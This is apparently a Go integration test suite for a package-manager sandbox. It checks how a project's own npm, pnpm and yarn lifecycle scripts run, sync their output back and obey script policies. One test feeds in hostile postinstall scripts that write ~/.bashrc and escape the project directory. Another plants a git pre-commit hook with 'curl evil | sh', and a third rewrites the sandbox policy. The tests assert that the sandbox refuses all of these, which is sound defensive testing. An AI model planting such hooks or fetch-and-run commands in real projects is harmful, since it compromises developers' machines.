package integration

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The project's own lifecycle scripts (issue 11 item 2) run in the sandbox after
// the dependencies' build, as `npm install` runs them; what they write in the
// project is synced back, .git/ never.

// rootScriptsProject writes the project's package.json (name pbox-root, one tiny
// dependency without scripts) with scripts, and optionally a policy.
func rootScriptsProject(t *testing.T, b *pmBox, scripts, extraDeps, policy string) {
	t.Helper()
	deps := `"is-odd":"3.0.1"`
	if extraDeps != "" {
		deps += "," + extraDeps
	}
	writeFile(t, filepath.Join(b.Project, "package.json"), `{"name":"pbox-root","version":"1.0.0","scripts":{`+scripts+`},"dependencies":{`+deps+`}}`+"\n", 0o644)
	if policy != "" {
		writeFile(t, filepath.Join(b.Project, ".phylum-box.yaml"), policy, 0o644)
	}
	chownTree(t, b.Mode, b.Project)
}

const genPostinstall = `"postinstall":"mkdir -p generated && echo ok > generated/out.txt"`

func readString(p string) string {
	data, err := os.ReadFile(p)
	if err != nil {
		return ""
	}
	return string(data)
}

// A root postinstall that generates a file: the file reaches the project, with
// npm install and npm ci; --ignore-scripts and scripts: none skip it; under
// scripts: allowlist the project's name in allow_scripts runs it.
func TestRootScriptsGenerateFile(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		out := func(b *pmBox) string { return readString(filepath.Join(b.Project, "generated", "out.txt")) }

		b := newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		r := b.tool("", "npm", "install")
		wantCode(t, r, 0, "npm install with a root postinstall")
		if out(b) != "ok\n" {
			t.Fatalf("the root postinstall's file did not reach the project:\n%s", r)
		}
		wantStderr(t, r, "the project's own scripts")
		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "the dependency is installed")

		// npm install PKG runs no project script (as npm), and the dependencies'
		// build does not run it either (a whole-tree rebuild did, where its file
		// was refused).
		if err := os.RemoveAll(filepath.Join(b.Project, "generated")); err != nil {
			t.Fatal(err)
		}
		r = b.tool("", "npm", "install", "core-js@3.39.0") // it has a postinstall
		wantCode(t, r, 0, "npm install PKG with a root postinstall")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("npm install PKG ran the root postinstall:\n%s", r)
		}
		wantFile(t, filepath.Join(b.Project, "node_modules", "core-js", "package.json"), "npm install PKG installs")

		// npm ci runs it (the lockfile from the installs above).
		r = b.tool("", "npm", "ci")
		wantCode(t, r, 0, "npm ci with a root postinstall")
		if out(b) != "ok\n" {
			t.Errorf("npm ci: the root postinstall's file did not reach the project:\n%s", r)
		}

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		r = b.tool("", "npm", "install", "--ignore-scripts")
		wantCode(t, r, 0, "npm install --ignore-scripts")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("--ignore-scripts ran the root postinstall:\n%s", r)
		}
		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "--ignore-scripts installs")

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "scripts: none\n")
		r = b.tool("", "npm", "install")
		wantCode(t, r, 0, "scripts: none")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("scripts: none ran the root postinstall:\n%s", r)
		}
		wantStderr(t, r, "scripts: none")

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "scripts: allowlist\nallow_scripts: [\"some-other-package\"]\n")
		r = b.tool("", "npm", "install")
		wantCode(t, r, 0, "scripts: allowlist without the project")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("scripts: allowlist without the project's name ran its postinstall:\n%s", r)
		}
		wantStderr(t, r, "pbox-root is not in the policy's allow_scripts")

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "scripts: allowlist\nallow_scripts: [\"pbox-root\"]\n")
		r = b.tool("", "npm", "install")
		wantCode(t, r, 0, "scripts: allowlist with the project's name")
		if out(b) != "ok\n" {
			t.Errorf("allow_scripts naming the project did not run its postinstall:\n%s", r)
		}
	})
}

// husky's prepare in a git repository: .husky/_ is created, .git/config is left
// as it was, and the command to set core.hooksPath is printed; exit 0.
func TestRootScriptsHuskyPrepare(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	requireTool(t, "git")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		rootScriptsProject(t, b, `"prepare":"husky"`, `"husky":"9.1.7"`, "")
		hostSh(t, m, b.Project, "rm -rf .git && git init -q . && git config user.email it@example.invalid")
		gitBefore := treeHash(t, filepath.Join(b.Project, ".git"), true)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 0, "npm install of a husky project")
		wantFile(t, filepath.Join(b.Project, ".husky", "_", "h"), "husky's hooks dir")
		wantFile(t, filepath.Join(b.Project, ".husky", "_", "pre-commit"), "husky's hook shims")
		assertSameTree(t, gitBefore, treeHash(t, filepath.Join(b.Project, ".git"), true), "the project's .git after husky's prepare")
		wantStderr(t, r, "git config core.hooksPath .husky/_")
	})
}

// Hostile twins: a root postinstall that writes ~/.bashrc (the sandbox's $HOME,
// gone after the run), ../outside (not on the host), or .git/hooks/pre-commit
// (refused: exit 4, nothing synced, not even its generated file).
func TestRootScriptsHostile(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		rootScriptsProject(t, b, `"postinstall":"echo evil >> $HOME/.bashrc; echo evil > ../outside.txt; mkdir -p generated && echo ok > generated/out.txt"`, "", "")
		outside := filepath.Join(filepath.Dir(b.Project), "outside.txt")
		removeAfter(t, outside)
		homeBefore := pmHomeHash(b)
		r := b.tool("", "npm", "install")
		if pathExists(outside) {
			t.Errorf("the root postinstall wrote ../outside.txt on the host:\n%s", r)
		}
		assertSameTree(t, homeBefore, pmHomeHash(b), "the caller's home after a root postinstall writing ~/.bashrc")
		if strings.Contains(readString(filepath.Join(b.Home, ".bashrc")), "evil") {
			t.Errorf("~/.bashrc was written")
		}

		b = newPMBox(t, m)
		rootScriptsProject(t, b, `"postinstall":"mkdir -p generated && echo ok > generated/out.txt && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"`, "", "")
		before := projectState(t, b.Project)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 4, "a root postinstall writing .git/hooks/pre-commit")
		wantStderr(t, r, ".git/hooks/pre-commit")
		assertSameTree(t, before, projectState(t, b.Project), "a refused .git/hooks write by the project's scripts")

		// phylum-box's project policy, which the next install reads, likewise.
		b = newPMBox(t, m)
		rootScriptsProject(t, b, `"postinstall":"mkdir -p generated && echo ok > generated/out.txt && echo 'scripts: sandbox' > .phylum-box.yaml"`, "", "")
		before = projectState(t, b.Project)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 4, "a root postinstall writing .phylum-box.yaml")
		wantStderr(t, r, ".phylum-box.yaml")
		assertSameTree(t, before, projectState(t, b.Project), "a refused .phylum-box.yaml write by the project's scripts")
	})
}

// pnpm install runs the project's postinstall: its file reaches the project (a
// whole-tree `pnpm rebuild` ran it among the dependencies' scripts, where the
// file was refused); --ignore-scripts skips it.
func TestRootScriptsPnpm(t *testing.T) {
	t.Parallel()
	requireTool(t, "pnpm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		r := b.tool("", "pnpm", "install")
		wantCode(t, r, 0, "pnpm install with a root postinstall")
		if got := readString(filepath.Join(b.Project, "generated", "out.txt")); got != "ok\n" {
			t.Fatalf("the root postinstall's file did not reach the project (%q):\n%s", got, r)
		}
		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "the dependency is installed")

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		r = b.tool("", "pnpm", "install", "--ignore-scripts")
		wantCode(t, r, 0, "pnpm install --ignore-scripts")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("--ignore-scripts ran the root postinstall:\n%s", r)
		}
	})
}

// yarn 1 install runs the project's postinstall in the project step: its file
// reaches the project and package.json is as it was (the build step ran with
// the lifecycle scripts taken out of it); --ignore-scripts skips it.
func TestRootScriptsYarnClassic(t *testing.T) {
	t.Parallel()
	requireTool(t, "yarn")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		manifest := readString(filepath.Join(b.Project, "package.json"))
		r := b.tool("", "yarn", "install")
		wantCode(t, r, 0, "yarn install with a root postinstall")
		if got := readString(filepath.Join(b.Project, "generated", "out.txt")); got != "ok\n" {
			t.Fatalf("the root postinstall's file did not reach the project (%q):\n%s", got, r)
		}
		if got := readString(filepath.Join(b.Project, "package.json")); got != manifest {
			t.Errorf("package.json changed:\n%s", got)
		}
		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "the dependency is installed")

		b = newPMBox(t, m)
		rootScriptsProject(t, b, genPostinstall, "", "")
		r = b.tool("", "yarn", "install", "--ignore-scripts")
		wantCode(t, r, 0, "yarn install --ignore-scripts")
		if pathExists(filepath.Join(b.Project, "generated")) {
			t.Errorf("--ignore-scripts ran the root postinstall:\n%s", r)
		}
	})
}

// yarn berry builds the root workspace like a package: its postinstall runs in
// the project step (the dependencies' build ran it where its file was refused),
// and package.json is as it was.
func TestRootScriptsYarnBerry(t *testing.T) {
	t.Parallel()
	requireTool(t, "yarn")
	forEachMode(t, func(t *testing.T, m mode) {
		rel := filepath.Join(berryRelease, "bin", "yarn.js")
		data, err := os.ReadFile(rel)
		if err != nil {
			skipf(t, "yarn berry is not installed (%v); run hack/install-deps.d/node.sh as root", err)
		}
		var pkg struct{ Version string }
		if pj, err := os.ReadFile(filepath.Join(berryRelease, "package.json")); err == nil {
			_ = json.Unmarshal(pj, &pkg)
		}
		b := newPMBox(t, m)
		writeFile(t, filepath.Join(b.Project, ".yarn", "releases", "yarn-berry.cjs"), string(data), 0o755)
		writeFile(t, filepath.Join(b.Project, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-berry.cjs\nenableTelemetry: false\nenableScripts: true\n", 0o644)
		manifest := `{"name":"pbox-root","version":"1.0.0","packageManager":"yarn@` + pkg.Version + `","scripts":{` + genPostinstall + `},"dependencies":{"is-odd":"3.0.1"}}` + "\n"
		writeFile(t, filepath.Join(b.Project, "package.json"), manifest, 0o644)
		chownTree(t, m, b.Project)
		b.Env = append(b.Env, "PHYLUM_BOX_YARN_BERRY="+rel)
		r := b.tool("", "yarn", "install")
		wantCode(t, r, 0, "yarn berry install with a root postinstall")
		if got := readString(filepath.Join(b.Project, "generated", "out.txt")); got != "ok\n" {
			t.Fatalf("the root postinstall's file did not reach the project (%q):\n%s", got, r)
		}
		// berry rewrites the manifest's layout itself; its scripts must be there.
		var pj struct{ Scripts map[string]string }
		if err := json.Unmarshal([]byte(readString(filepath.Join(b.Project, "package.json"))), &pj); err != nil || pj.Scripts["postinstall"] == "" {
			t.Errorf("package.json lost its postinstall (%v):\n%s", err, readString(filepath.Join(b.Project, "package.json")))
		}
	})
}

// A workspace package's prepare runs after npm install (npm builds the
// workspace links), and what it writes in its directory reaches the project.
func TestRootScriptsNpmWorkspace(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		writeFile(t, filepath.Join(b.Project, "package.json"), `{"name":"pbox-root","version":"1.0.0","workspaces":["packages/*"],"dependencies":{"is-odd":"3.0.1"}}`+"\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "packages", "a", "package.json"), `{"name":"pbox-ws-a","version":"1.0.0","scripts":{"prepare":"echo built > built.txt"}}`+"\n", 0o644)
		chownTree(t, m, b.Project)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 0, "npm install in a workspace project")
		if got := readString(filepath.Join(b.Project, "packages", "a", "built.txt")); got != "built\n" {
			t.Errorf("the workspace's prepare did not write packages/a/built.txt (%q):\n%s", got, r)
		}
	})
}
